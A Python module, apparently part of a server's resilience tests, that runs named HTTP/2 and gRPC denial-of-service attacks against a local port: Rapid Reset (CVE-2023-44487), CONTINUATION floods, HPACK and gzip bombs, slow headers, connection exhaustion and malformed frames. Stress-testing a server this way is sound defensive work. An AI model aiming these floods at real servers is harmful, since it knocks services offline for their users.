# SPDX-License-Identifier: Apache-2.0
"""One attack on a server, as a process of its own so that it takes no time from
the honest client's interpreter.

Usage: attacks.py NAME PORT

Goes on until standard input ends; prints "on" when the first wave has hit. What
the peer makes of a connection is not its concern: a refused or closed one is
opened anew.
"""
import functools
import gzip
import os
import random
import select
import struct
import sys
import threading
import time

import frames
from frames import END_HEADERS, END_STREAM

EXPLAIN = "/limpid.v1.ExplanationService/Explain"
STREAM = "/limpid.v1.ExplanationService/StreamExplain"
REFLECTION = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"
ATTACKS = {}


def attack(function):
    ATTACKS[function.__name__] = function
    return function


@functools.cache
def reset_streams(count, payload=None):
    return frames.reset_streams(EXPLAIN, count, payload)


class Repeated(Exception):
    """Raised by a wave that has done its worst and only holds on."""


@attack
def rapid_reset(port, held):
    """CVE-2023-44487: streams that are reset as soon as they are opened, as
    fast as they can be sent, without end."""
    streams = reset_streams(200000)
    with frames.connect(port) as connection:
        connection.sendall(streams)


@attack
def rapid_reset_in_pieces(port, held):
    """The same, with a new connection for every 1,000 streams."""
    streams = reset_streams(1000)
    with frames.connect(port) as connection:
        connection.sendall(streams)


@attack
def rapid_reset_of_whole_requests(port, held):
    """The same after the whole request, which a gateway passes on."""
    streams = reset_streams(50000, frames.grpc_message(explain_bytes()))
    with frames.connect(port) as connection:
        connection.sendall(streams)


@attack
def rapid_reset_of_many(port, held):
    """The same, from 256 addresses in turn."""
    streams = reset_streams(200000)
    source = f"127.0.1.{len(held) % 256}"
    held.append(None)
    with frames.connect(port, source=source) as connection:
        connection.sendall(streams)


@attack
def hpack_bomb(port, held):
    """A table entry of 4 KB that a few bytes repeat thousands of times."""
    entry = frames.literal("x-bomb", "b" * 3900, first=0x40)
    with frames.connect(port) as connection:
        for stream in range(1, 41, 2):
            block = frames.request_block(EXPLAIN) + entry + b"\xbe" * 8000
            connection.sendall(frames.headers(stream, block))


@attack
def hpack_garbage(port, held):
    """Integers without end, indexes that do not exist."""
    for block in (b"\x7f" + b"\xff" * 8000, b"\xff\xff\xff\xff\xff\x0f" * 99,
                  os.urandom(4000)):
        with frames.connect(port) as connection:
            connection.sendall(frames.headers(1, block))
            connection.recv(1000)


# Of a header block.
PIECE = frames.frame(frames.CONTINUATION, 0, 1,
                     frames.literal("x", "y" * 16000))


@attack
def continuation_flood(port, held):
    """CVE-2024-27316 and its kin: a header block that never ends."""
    with frames.connect(port) as connection:
        connection.sendall(frames.headers(1, frames.request_block(EXPLAIN), 0))
        for _ in range(4000):
            connection.sendall(PIECE)


@attack
def endless_header_block(port, held):
    """The same over one connection for as long as it lasts."""
    with frames.connect(port) as connection:
        connection.sendall(frames.headers(1, frames.request_block(EXPLAIN), 0))
        while True:
            connection.sendall(PIECE)


@attack
def empty_continuations(port, held):
    with frames.connect(port) as connection:
        connection.sendall(frames.headers(1, frames.request_block(EXPLAIN), 0))
        piece = frames.frame(frames.CONTINUATION, 0, 1) * 1000
        for _ in range(300):
            connection.sendall(piece)


def send_unread(port, piece, times):
    """Sends without ever reading; ends when the peer takes no more."""
    with frames.connect(port, timeout=2) as connection:
        for _ in range(times):
            connection.sendall(piece)


@attack
def ping_flood(port, held):
    send_unread(port, frames.frame(frames.PING, 0, 0, bytes(8)) * 1000, 200)


@attack
def settings_flood(port, held):
    send_unread(port, frames.settings(initial_window=65535) * 1000, 200)


@attack
def window_overflow(port, held):
    for stream in (0, 1):
        with frames.connect(port) as connection:
            connection.sendall(
                frames.headers(1, frames.request_block(EXPLAIN)) +
                frames.frame(frames.WINDOW_UPDATE, 0, stream,
                             struct.pack(">I", 0x7fffffff)) * 3)
            connection.recv(1000)


@attack
def streams_held_open(port, held):
    """2,000 streams on ten connections that never acknowledge a limit."""
    if held:
        raise Repeated
    block = frames.request_block(EXPLAIN)
    for _ in range(10):
        connection = frames.connect(port)
        connection.sendall(b"".join(frames.headers(stream, block)
                                    for stream in range(1, 401, 2)))
        held.append(connection)


@attack
def reflection_streams(port, held):
    """Streams of a service that needs a thread for each."""
    if held:
        raise Repeated
    block = frames.request_block(REFLECTION)
    for _ in range(8):
        connection = frames.connect(port)
        connection.sendall(frames.SETTINGS_ACK + b"".join(
            frames.headers(stream, block) for stream in range(1, 199, 2)))
        held.append(connection)


def explain_bytes():
    """ExplainRequest{model: "recall-mamba", input {tokens {96 ids}},
    attention {kind: MATRIX, channel_reduction: ALL}} on the wire."""
    def field(number, payload):
        return frames.integer(number << 3 | 2, 7) + frames.integer(
            len(payload), 7) + payload
    ids = bytes(i % 16 for i in range(96))
    return (field(1, b"recall-mamba") + field(2, field(2, field(1, ids))) +
            field(6, b"\x08\x03\x10\x09"))


@attack
def unread_replies(port, held):
    """Large replies asked for by peers that never read their socket."""
    if len(held) >= 24:
        raise Repeated
    block = frames.request_block(STREAM)
    body = frames.grpc_message(explain_bytes())
    connection = frames.connect(
        port, frames.settings(initial_window=0x7fffffff))
    connection.sendall(
        frames.frame(frames.WINDOW_UPDATE, 0, 0, struct.pack(
            ">I", 0x7fff0000)) + b"".join(
                frames.headers(stream, block) +
                frames.data(stream, body, END_STREAM)
                for stream in range(1, 9, 2)))
    held.append(connection)


@attack
def zero_windows(port, held):
    """Replies that no window lets out."""
    if len(held) >= 24:
        raise Repeated
    block = frames.request_block(STREAM)
    body = frames.grpc_message(explain_bytes())
    connection = frames.connect(port, frames.settings(initial_window=0))
    connection.sendall(b"".join(
        frames.headers(stream, block) + frames.data(stream, body, END_STREAM)
        for stream in range(1, 9, 2)))
    held.append(connection)


class Reader(threading.Thread):
    """Reads a connection and opens windows as far as the peer asks, so that
    large bodies can be sent."""

    def __init__(self, connection):
        super().__init__(daemon=True)
        self.connection = connection
        self.start()

    def run(self):
        try:
            while self.connection.recv(65536):
                pass
        except OSError:
            pass


def send_message(port, message, more=()):
    """A message of any size on one stream, without regard for its window: the
    peer's default is a few MiB, beyond that it counts as a flow error."""
    with frames.connect(port) as connection:
        Reader(connection)
        connection.sendall(frames.SETTINGS_ACK + frames.headers(
            1, frames.request_block(EXPLAIN, *more)))
        for begin in range(0, len(message), 1 << 16):
            connection.sendall(frames.data(1, message[begin:begin + (1 << 16)]))
            time.sleep(0.001)


@attack
def large_messages(port, held):
    body = frames.grpc_message(bytes(40 << 20))
    threads = [threading.Thread(target=quietly, args=(send_message, port, body))
               for _ in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


@attack
def length_only(port, held):
    """A length of 4 GiB, then silence."""
    if len(held) >= 200:
        raise Repeated
    connection = frames.connect(port)
    connection.sendall(
        frames.headers(1, frames.request_block(EXPLAIN)) +
        frames.data(1, b"\x00\xff\xff\xff\xff"))
    held.append(connection)


BOMB = frames.grpc_message(gzip.compress(bytes(64 << 20)), compressed=True)


@attack
def compression_bombs(port, held):
    for _ in range(16):
        with frames.connect(port) as connection:
            connection.sendall(
                frames.headers(1, frames.request_block(
                    EXPLAIN, ("grpc-encoding", "gzip"))) +
                frames.data(1, BOMB, END_STREAM))
            connection.recv(1000)


@attack
def connect_and_close(port, held):
    for _ in range(1000):
        frames.dial(port).close()


@attack
def ten_thousand_connections(port, held):
    if len(held) >= 10000:
        raise Repeated
    for _ in range(500):
        held.append(frames.dial(port))


@attack
def silent_connections(port, held):
    """Some say nothing, some half a preface, some half a frame."""
    if len(held) >= 600:
        raise Repeated
    for begin in (b"", frames.PREFACE[:9],
                  frames.PREFACE + frames.settings() + b"\x00\x40"):
        connection = frames.dial(port)
        connection.sendall(begin)
        held.append(connection)


@attack
def slow_headers(port, held):
    """A byte of a header block now and then."""
    while len(held) < 100:
        held.append(frames.connect(port))
    block = frames.headers(1, frames.request_block(EXPLAIN))
    for at in range(len(block) - 1):
        for connection in held:
            connection.sendall(block[at:at + 1])
        time.sleep(0.05)


@attack
def other_protocols(port, held):
    """HTTP/1.1, a TLS hello, and noise."""
    for begin in (b"GET / HTTP/1.1\r\nHost: x\r\n\r\n",
                  b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" +
                  os.urandom(500), os.urandom(4000)):
        with frames.dial(port) as connection:
            connection.sendall(begin)
            select.select([connection], [], [], 0.2)


@attack
def random_frames(port, held):
    """Frames of random kind, flags, stream and length after a good start."""
    dice = random.Random(os.getpid() + len(held))
    with frames.connect(port) as connection:
        connection.sendall(frames.headers(1, frames.request_block(EXPLAIN)))
        for _ in range(200):
            connection.sendall(frames.frame(
                dice.randrange(12), dice.randrange(256), dice.randrange(8),
                dice.randbytes(dice.randrange(64))))


@attack
def bad_metadata(port, held):
    """NUL, newlines and escapes in values, bad base64, 100 KB of them."""
    for field in (("x-request-id", b"\x00\n\x1b[31m"),
                  ("x-some-bin", b"!!!not base64"),
                  ("authorization", b"a" * 60000),
                  ("grpc-timeout", b"999999999999999999999S")):
        block = frames.request_block(EXPLAIN, field)
        with frames.connect(port) as connection:
            pieces = [block[i:i + 16000] for i in range(0, len(block), 16000)]
            connection.sendall(frames.headers(
                1, pieces[0], END_HEADERS if len(pieces) == 1 else 0))
            for i, piece in enumerate(pieces[1:], 2):
                connection.sendall(frames.frame(
                    frames.CONTINUATION, END_HEADERS if i == len(pieces) else 0,
                    1, piece))
            connection.sendall(frames.data(
                1, frames.grpc_message(explain_bytes()), END_STREAM))
            connection.recv(1000)


@attack
def cancel_storm(port, held):
    """Whole requests, reset before or while they are computed."""
    block = frames.request_block(STREAM)
    body = frames.grpc_message(explain_bytes())
    with frames.connect(port) as connection:
        Reader(connection)
        connection.sendall(frames.SETTINGS_ACK)
        for stream in range(1, 201, 2):
            connection.sendall(frames.headers(stream, block) +
                               frames.data(stream, body, END_STREAM))
            time.sleep(0.0005 * (stream % 7))
            connection.sendall(frames.reset(stream))


@attack
def deadline_storm(port, held):
    """Whole requests with a millisecond to live."""
    block = frames.request_block(STREAM, ("grpc-timeout", "1m"))
    body = frames.grpc_message(explain_bytes())
    with frames.connect(port) as connection:
        Reader(connection)
        connection.sendall(frames.SETTINGS_ACK)
        for stream in range(1, 201, 2):
            connection.sendall(frames.headers(stream, block) +
                               frames.data(stream, body, END_STREAM))
            time.sleep(0.002)


def quietly(function, *arguments):
    try:
        function(*arguments)
    except OSError:
        pass


def main():
    name, port = sys.argv[1], int(sys.argv[2])
    ended = threading.Event()
    threading.Thread(target=lambda: (sys.stdin.read(), ended.set()),
                     daemon=True).start()
    held, told = [], False
    while not ended.is_set():
        try:
            quietly(ATTACKS[name], port, held)
        except Repeated:
            ended.wait(0.1)
        if not told:
            print("on", flush=True)
            told = True
        ended.wait(0.01)


if __name__ == "__main__":
    main()
